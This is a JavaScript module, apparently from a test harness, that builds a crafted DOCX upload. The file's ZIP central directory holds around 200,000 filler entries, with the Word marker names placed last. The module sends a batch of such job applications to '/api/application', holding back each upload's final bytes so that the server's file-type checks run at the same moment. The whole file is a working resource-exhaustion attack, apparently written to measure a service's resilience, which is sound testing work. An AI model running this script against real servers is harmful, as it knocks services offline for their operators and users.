// The crafted-upload attack: applications whose CV looks like a DOCX (a ZIP that names
// word/document.xml and [Content_Types].xml) but whose central directory holds a couple of
// hundred thousand tiny entries, all within the CV size limit. A type check that reads the whole
// directory into names pays for every entry; such checks finishing together, from an address that
// stays inside its upload quota (100 MB: ten such CVs), are what is measured.
import { crc32 } from 'node:zlib';
import { attackAddresses, BOUNDARY, CLOSING, connect, hangUp, MB, requestHead, sleep, textPart } from './wire.mjs';

/** Held back from every upload until all the rest has been sent: the ZIP's end record and the closing boundary. */
const HELD_BYTES = 64;
/** After the last upload's bytes are handed to the system, time for the server to read them off the socket. */
const SETTLE_MS = 2_000;

const LOCAL_SIGNATURE = 0x04034b50;
const CENTRAL_SIGNATURE = 0x02014b50;
const EOCD_SIGNATURE = 0x06054b50;
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
/** The entries that make a ZIP a Word document, each stored with a little content. */
const REAL_ENTRIES = [
  ['_rels/.rels', '<?xml version="1.0"?><Relationships/>'],
  ['[Content_Types].xml', '<?xml version="1.0"?><Types/>'],
  ['word/document.xml', '<?xml version="1.0"?><w:document/>'],
];

function centralEntry(name, { crc, size, offset }) {
  const nameBytes = Buffer.from(name, 'latin1');
  const entry = Buffer.alloc(46 + nameBytes.length);
  entry.writeUInt32LE(CENTRAL_SIGNATURE, 0);
  entry.writeUInt16LE(20, 4); // made by
  entry.writeUInt16LE(20, 6); // needed to extract
  entry.writeUInt32LE(crc, 16);
  entry.writeUInt32LE(size, 20);
  entry.writeUInt32LE(size, 24);
  entry.writeUInt16LE(nameBytes.length, 28);
  entry.writeUInt32LE(offset, 42);
  nameBytes.copy(entry, 46);
  return entry;
}

/**
 * A ZIP of `entries` central directory entries, made the same every time: local headers and
 * contents only for the few real entries, then the directory (the filler first, four-character
 * names pointing at the first file, the names a DOCX check looks for last, so finding them means
 * reading everything) and its end record.
 */
export function craftedDocx(entries) {
  const locals = [];
  const located = [];
  let offset = 0;
  for (const [name, text] of REAL_ENTRIES) {
    const nameBytes = Buffer.from(name, 'latin1');
    const content = Buffer.from(text, 'latin1');
    const header = Buffer.alloc(30);
    header.writeUInt32LE(LOCAL_SIGNATURE, 0);
    header.writeUInt16LE(20, 4);
    const crc = crc32(content);
    header.writeUInt32LE(crc, 14);
    header.writeUInt32LE(content.length, 18);
    header.writeUInt32LE(content.length, 22);
    header.writeUInt16LE(nameBytes.length, 26);
    located.push([name, { crc, size: content.length, offset }]);
    locals.push(header, nameBytes, content);
    offset += header.length + nameBytes.length + content.length;
  }
  const fillerCount = Math.max(0, entries - REAL_ENTRIES.length);
  const first = located[0][1];
  const filler = Array.from({ length: fillerCount }, (_, i) => centralEntry(i.toString(36).padStart(4, '0'), first));
  const directory = Buffer.concat([...filler, ...located.map(([name, at]) => centralEntry(name, at))]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(EOCD_SIGNATURE, 0);
  // More entries than 16 bits count: the field says "see ZIP64", as a real archiver's would.
  end.writeUInt16LE(Math.min(entries, 0xffff), 8);
  end.writeUInt16LE(Math.min(entries, 0xffff), 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

function application(port, cv) {
  const start =
    textPart('language', 'en') +
    textPart('name', 'Abe Attacker') +
    textPart('email', 'abe@example.com') +
    textPart('message', 'Please find my CV attached.') +
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="cv"; filename="cv.docx"\r\nContent-Type: ${DOCX}\r\n\r\n`;
  const claimed = Buffer.byteLength(start) + cv.length + 2 + CLOSING.length;
  const head = requestHead(port, '/api/application', `multipart/form-data; boundary=${BOUNDARY}`, claimed);
  return Buffer.concat([Buffer.from(head + start), cv, Buffer.from(`\r\n${CLOSING}`)]);
}

let cv;
const cvOf = (entries) => {
  if (cv?.entries !== entries) cv = { entries, bytes: craftedDocx(entries) };
  return cv.bytes;
};

export const craftedUpload = {
  name: 'crafted-upload',
  defaults: { uploads: 10, addresses: 1, seconds: 30, entries: 200_000, uploadQuotaMb: undefined },
  env: ({ uploadQuotaMb }) => ({ UPLOAD_QUOTA_MB: uploadQuotaMb === undefined ? undefined : String(uploadQuotaMb) }),
  summary: ({ uploads, addresses, entries, uploadQuotaMb }) => ({
    uploads,
    uploadsPerAddress: Math.ceil(uploads / addresses),
    entries,
    cvMb: Math.round((cvOf(entries).length / MB) * 100) / 100,
    uploadQuotaMb: uploadQuotaMb ?? 100,
    addresses: attackAddresses(addresses),
  }),
  describe: ({ uploads, addresses, entries, uploadQuotaMb }) =>
    `${uploads} applications to /api/application (${Math.ceil(uploads / addresses)} per address) sent at once, their last ${HELD_BYTES} bytes held back until all the rest is sent, so the type checks run together; each with a ${(cvOf(entries).length / MB).toFixed(2)} MB "cv.docx" ` +
    `whose ZIP central directory holds ${entries.toLocaleString('en')} entries (word/document.xml and [Content_Types].xml last); ` +
    `upload quota ${uploadQuotaMb ?? 100} MB per address`,
  start({ port, settings }) {
    const addresses = attackAddresses(settings.addresses);
    const body = application(port, cvOf(settings.entries));
    const uploads = Array.from({ length: settings.uploads }, (_, i) =>
      connect({
        port,
        kind: 'applications',
        route: '/api/application',
        localAddress: addresses[i % addresses.length],
        sent: body.subarray(0, body.length - HELD_BYTES),
      }),
    );
    const startedAt = performance.now();
    let releasedAfterS = null;
    let over = false;
    // Every upload's last bytes at once: the checks start together.
    const released = (async () => {
      await Promise.all(uploads.map((upload) => upload.written));
      await sleep(SETTLE_MS);
      if (over) return;
      releasedAfterS = Math.round((performance.now() - startedAt) / 100) / 10;
      for (const upload of uploads) if (upload.outcome === 'open') upload.socket.write(body.subarray(-HELD_BYTES));
    })();
    return {
      async stop() {
        over = true;
        await Promise.race([released, sleep(0)]);
        return { outcomes: hangUp(uploads, (attacker) => attacker.kind), releasedAfterS };
      },
    };
  },
};
